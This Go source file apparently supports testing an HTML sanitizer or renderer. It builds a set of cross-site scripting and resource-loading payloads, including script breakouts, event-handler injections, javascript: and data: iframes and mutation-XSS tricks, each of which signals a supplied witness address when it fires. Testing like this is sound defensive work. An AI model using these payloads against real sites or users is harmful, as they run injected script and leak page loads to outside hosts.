package html

import (
	"fmt"
	"maps"
	"slices"
	"strings"
)

// payloads are HTML that does something as soon as a browser takes it for its own: each calls the witness by its name.
func payloads(address string) map[string]string {
	call := func(name string) string {
		return fmt.Sprintf("document.title='taken over';document.documentElement.setAttribute('data-taken','%s');"+
			"new Image().src='%s/%s'", name, address, name)
	}
	return map[string]string{
		"script":        `<script>` + call("script") + `</script>`,
		"script-end":    `</pre></script></style></textarea></title><script>` + call("script-end") + `</script>`,
		"attribute-end": `"'><img src=x onerror="` + call("attribute-end") + `">`,
		"comment-end":   `--><script>` + call("comment-end") + `</script><!--`,
		"onload":        `<svg onload="` + call("onload") + `"></svg>`,
		"details":       `<details open ontoggle="` + call("details") + `"><summary>x</summary></details>`,
		"animation":     `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="` + call("animation") + `">x</b>`,
		"focus":         `<input type="checkbox" autofocus onfocus="` + call("focus") + `">`,
		"frame-src":     `<iframe src="` + address + `/frame-src"></iframe>`,
		"frame-js":      `<iframe src="javascript:` + strings.ReplaceAll(call("frame-js"), "document.", "top.document.") + `;void 0"></iframe>`,
		"srcdoc":        `<iframe srcdoc="&lt;script&gt;` + call("srcdoc") + `&lt;/script&gt;"></iframe>`,
		"srcdoc-end":    `</body></html>"></iframe><script>` + call("srcdoc-end") + `</script>`,
		"data-page":     `<iframe src="data:text/html,<script>new Image().src='` + address + `/data-page'</script>"></iframe>`,
		"object":        `<object data="` + address + `/object"></object>`,
		"embed":         `<embed src="` + address + `/embed">`,
		"picture":       `<img src="` + address + `/picture" srcset="` + address + `/picture 2x">`,
		"poster":        `<video poster="` + address + `/poster" src="` + address + `/video" autoplay></video>`,
		"stylesheet":    `<link rel="stylesheet" href="` + address + `/stylesheet">`,
		"preload":       `<link rel="preload" as="image" href="` + address + `/preload"><link rel="prefetch" href="` + address + `/prefetch">`,
		"import":        `<style>@import "` + address + `/import";</style>`,
		"background":    `<div style="width:9px;height:9px;background:url(` + address + `/background)">x</div>`,
		"escaped-style": `<div style="width:9px;height:9px;background:u\72l(` + address + `/escaped-style)">x</div>`,
		"style-text":    `<style>body{background:url("` + address + `/style-text")}</style>`,
		"table":         `<table background="` + address + `/table"><tr><td>x</td></tr></table>`,
		"input-image":   `<input type="image" src="` + address + `/input-image">`,
		"svg-image":     `<svg width="9" height="9"><image href="` + address + `/svg-image" width="9" height="9"/></svg>`,
		"foreign":       `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="` + address + `/foreign"></iframe></foreignObject></svg>`,
		"form":          `<form id="f" action="` + address + `/form"><input name="a"></form><script>f.submit()</script>`,
		"mutation":      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=` + call("mutation") + `&gt;">`,
		"noscript":      `<noscript><p title="</noscript><img src=x onerror=&quot;` + call("noscript") + `&quot;>"></noscript>`,
	}
}

// refresh leaves the page, and everything else with it, so that it is not among the others.
func refresh(address string) string {
	return `<meta http-equiv="refresh" content="0;url=` + address + `/refresh">`
}

// preconnect opens a connection without a request.
func preconnect(address string) string {
	return `<link rel="preconnect" href="` + address + `"><link rel="dns-prefetch" href="` + address + `">`
}

// svgPayload is a picture that tries everything that a picture can.
func svgPayload(address string) string {
	return `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" ` +
		`onload="new Image().src='` + address + `/svg-onload'"><script>new Image().src='` + address + `/svg-script'</script>` +
		`<image xlink:href="` + address + `/svg-href" width="9" height="9"/><style>@import "` + address + `/svg-import";</style>` +
		`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="` + address + `/svg-foreign"/></body></foreignObject>` +
		`<rect width="20" height="20" fill="red"/></svg>`
}

// everyPayload returns them in a fixed order.
func everyPayload(address string) []string {
	all := payloads(address)
	list := []string{refresh(address), preconnect(address)}
	for _, name := range slices.Sorted(maps.Keys(all)) {
		list = append(list, all[name])
	}
	return list
}

// attribute escapes for a value in double quotes, and no more.
func attribute(text string) string {
	return strings.ReplaceAll(strings.ReplaceAll(text, "&", "&amp;"), `"`, "&quot;")
}
